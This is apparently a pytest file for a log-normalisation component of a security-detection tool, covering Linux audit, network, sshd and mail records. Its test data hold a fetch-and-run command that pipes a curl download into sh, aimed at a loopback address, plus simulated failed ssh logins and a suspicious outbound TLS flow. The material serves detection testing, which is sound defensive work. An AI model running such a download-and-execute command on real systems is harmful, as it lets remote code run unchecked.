"""Records as laurel 0.7.1 and sshd 10 (Debian trixie) really wrote them in the laboratory."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nachtwacht.detect.normalise import Estate, Unparsed, normalise
from nachtwacht.detect.normalise.normalising import SOURCES
from nachtwacht.ingest.record import Record
from tests.packs.office import ADDRESSES, office

RECORDS = Path(__file__).parent / "records"
ESTATE = Estate(office(), ADDRESSES)


def understood(source, body, host="fin-01"):
    record = Record(id="r", host=host, source=source, time=0.0, observed=5.0, arrived=1795540000.0, body=body)
    return normalise(record, ESTATE)


@pytest.fixture(scope="module")
def audit():
    events = []
    for line in (RECORDS / "linux_audit.jsonl").read_text().splitlines():
        found = understood("linux_audit", line)
        assert not isinstance(found, Unparsed), found.reason
        events.extend(found)
    return events


def by_command(events, command):
    return next(
        event
        for event in events
        if event.fields.get("CommandLine") == command and "process_creation" in event.categories
    )


def test_an_execution(audit):
    found = by_command(audit, "sh -c curl -s --max-time 2 http://127.0.0.1:9/nwc-x | sh")
    assert found.asset == "fin-01"
    assert found.time == 1795529546.631
    assert found.fields["Image"] == "/usr/bin/dash"
    assert found.fields["User"] == "root"
    assert found.fields["CurrentDirectory"] == "/root"


def test_the_parents_command_line_is_that_of_its_own_record(audit):
    found = by_command(audit, "curl -s --max-time 2 http://127.0.0.1:9/nwc-x")
    assert found.fields["ParentImage"] == "/usr/bin/dash"
    assert found.fields["ParentCommandLine"] == "sh -c curl -s --max-time 2 http://127.0.0.1:9/nwc-x | sh"


def test_encoded_arguments_are_decoded(audit):
    found = next(event for event in audit if event.fields["Image"] == "/tmp/x")
    assert found.fields["CommandLine"] == "./x 100% a b é\ufffd"
    assert found.fields["Script"] == "/tmp/x"


def test_a_script_is_told_by_its_interpreter_and_its_file(audit):
    found = by_command(audit, "/bin/sh /tmp/sc.sh")
    assert (found.fields["Image"], found.fields["Script"]) == ("/usr/bin/dash", "/tmp/sc.sh")


def test_connections(audit):
    found = {
        (event.fields["Image"], event.fields["DestinationIp"], event.fields["DestinationPort"])
        for event in audit
        if "network_connection" in event.categories
    }
    assert ("/usr/bin/bash", "10.91.10.25", 25) in found
    assert ("/usr/bin/python3.13", "::1", 9) in found


def test_a_pipe_has_one_parent(audit):
    curl = by_command(audit, "curl -s --max-time 1 http://10.91.10.25:9/q")
    parents = {event.fields["ParentProcessId"] for event in audit if event.fields.get("CommandLine") == "sh"}
    assert curl.fields["ParentProcessId"] in parents


@pytest.fixture(scope="module")
def network():
    events = []
    for line in (RECORDS / "network_metadata.jsonl").read_text().splitlines():
        found = understood("network_metadata", line, host="sensor-1")
        assert not isinstance(found, Unparsed), found.reason
        events.extend(found)
    return events


def test_a_name_in_tls(network):
    found = next(event for event in network if event.fields.get("DestinationHostname") == "facturen-goudenaar.example")
    assert found.asset == "ws-01"
    expected = {
        "User": "j.bakker",
        "SourceIp": "10.91.10.21",
        "DestinationIp": "198.51.100.7",
        "DestinationPort": 443,
        "DestinationCountry": "CN",
        "Initiated": True,
        "Ja4": "t13d3013h2_1d37bd780c83_8537cf56674e",
    }
    assert {name: found.fields[name] for name in expected} == expected


def test_a_flow_happened_when_it_began(network):
    found = next(event for event in network if event.service == "flow" and event.fields["flow_id"] == 732484194860924)
    assert found.time == pytest.approx(1795532658.694832, abs=1e-3)
    assert found.fields["BytesToServer"] == 2562


def test_an_answer_is_no_connection_outwards(network):
    """The anomaly is about a packet of the mail server to a client abroad, who began."""
    (found,) = [
        event for event in network if event.service == "anomaly" and event.fields.get("SourceIp") == "198.51.100.7"
    ]
    assert found.asset == "mail-01"
    assert found.fields["Initiated"] is False
    assert (found.fields["DestinationIp"], found.fields["DestinationPort"]) == ("10.91.10.25", 25)
    assert "DestinationCountry" not in found.fields


def test_an_alert_says_who_began():
    line = {
        "event_type": "alert",
        "src_ip": "198.51.100.7",
        "src_port": 8443,
        "dest_ip": "10.91.10.21",
        "dest_port": 50000,
        "flow": {"src_ip": "10.91.10.21", "src_port": 50000, "dest_ip": "198.51.100.7", "dest_port": 8443},
        "alert": {"signature": "x"},
    }
    (found,) = understood("network_metadata", json.dumps(line), host="sensor-1")
    assert (found.asset, found.fields["Initiated"], found.fields["DestinationIp"]) == ("ws-01", True, "198.51.100.7")


LOGIN = {
    "MESSAGE": "Accepted publickey for root from 10.91.10.1 port 53228 ssh2: ED25519 SHA256:URloOTZLOYsVCYVw5HFV0otf/Ll2OJEmRtnQXQ8bRpg",
    "_COMM": "sshd-session",
    "SYSLOG_IDENTIFIER": "sshd-session",
    "_PID": "109",
    "_SYSTEMD_UNIT": "ssh.service",
    "_SOURCE_REALTIME_TIMESTAMP": "1795529523768682",
    "__REALTIME_TIMESTAMP": "1795529523768709",
}


def test_a_login():
    (found,) = understood("linux_auth", LOGIN)
    assert found.categories == ("authentication",)
    assert found.time == 1795529523.768682
    expected = {
        "Outcome": "success",
        "User": "root",
        "Method": "publickey",
        "SourceIp": "10.91.10.1",
        "SourcePort": 53228,
        "KeyType": "ED25519",
        "KeyFingerprint": "SHA256:URloOTZLOYsVCYVw5HFV0otf/Ll2OJEmRtnQXQ8bRpg",
        "LocalTime": "2026-11-24T15:12:03+01:00",
        "WithinAdminHours": True,
        "WithinOfficeHours": True,
    }
    assert {name: found.fields[name] for name in expected} == expected


@pytest.mark.parametrize(
    ("message", "outcome", "user"),
    [
        ("Failed password for invalid user admin from 198.51.100.7 port 4 ssh2", "failure", "admin"),
        ("Failed password for root from 198.51.100.7 port 4 ssh2", "failure", "root"),
        ("Invalid user a b from 198.51.100.7 port 4", "failure", "a b"),
        ("Invalid user  from 198.51.100.7 port 4", "failure", ""),
        ("Accepted keyboard-interactive/pam for b.dewit from 2001:db8::1 port 4 ssh2", "success", "b.dewit"),
        (
            "Failed none for invalid user x from 10.0.0.1 port 9 ssh2 from 198.51.100.7 port 4 ssh2",
            "failure",
            "x from 10.0.0.1 port 9 ssh2",
        ),
        ("pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)", None, None),
        ("Connection closed by authenticating user root 198.51.100.7 port 4 [preauth]", None, None),
    ],
)
def test_messages_of_the_server(message, outcome, user):
    (found,) = understood("linux_auth", LOGIN | {"MESSAGE": message})
    assert found.fields.get("Outcome") == outcome
    assert found.fields.get("TargetUserName", "" if outcome else None) == user


def test_a_message_that_is_no_text_comes_as_bytes():
    (found,) = understood("linux_auth", LOGIN | {"MESSAGE": list(b"caf\xe9")})
    assert found.fields["Message"] == "caf\ufffd"


def test_a_mail_is_an_event_for_each_recipient():
    mail = {
        "time": "2026-11-24T12:00:00+00:00",
        "queue_id": "4F",
        "mail_from": "<a@b.example>",
        "rcpt_to": ["<J.Bakker+shop@gouden-aar.example>", "x@gouden-aar.example"],
        "urls": ["https://Evil.example:8443/p?q=1", "http://[broken"],
        "attachments": [{"name": "a.pdf", "sha256": "00"}],
    }
    first, second = understood("mail_log", json.dumps(mail), host="mail-01")
    assert (first.id, second.id) == ("r", "r/1")
    assert (first.asset, first.fields["User"]) == ("ws-01", "j.bakker")
    assert (second.asset, second.fields["User"]) == ("mail-01", "x")
    assert first.fields["UrlDomains"] == ["evil.example"]
    assert first.fields["Attachments"] == ["a.pdf"]
    assert first.fields["HasLink"] is True


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
KEYS = st.sampled_from(
    [
        "ID",
        "SYSCALL",
        "EXECVE",
        "PATH",
        "SOCKADDR",
        "CWD",
        "MESSAGE",
        "_COMM",
        "event_type",
        "src_ip",
        "dns",
        "tls",
        "flow",
        "timestamp",
        "rcpt_to",
        "urls",
        "time",
        "attachments",
        "queue_id",
    ]
)


@settings(max_examples=150, deadline=None)
@given(source=st.sampled_from([*SOURCES, "other"]), body=JSON | st.dictionaries(KEYS, JSON) | st.text())
def test_whatever_arrives_is_understood_or_kept(source, body):
    """Any body gives events or a reason, never an exception."""
    found = understood(source, body)
    assert isinstance(found, Unparsed | tuple)
    if isinstance(found, Unparsed):
        assert found.reason
        assert found.record.body is body


def test_a_clock_that_runs_ahead_is_not_believed():
    """Whoever owns the host could otherwise make its night a day."""
    record = Record(
        id="r", host="fin-01", source="linux_auth", time=0.0, observed=5.0, arrived=1795500000.0, body=LOGIN
    )
    (found,) = normalise(record, ESTATE)
    assert found.time == 1795500000.0
    assert found.fields["ClaimedTime"] == 1795529523.768682
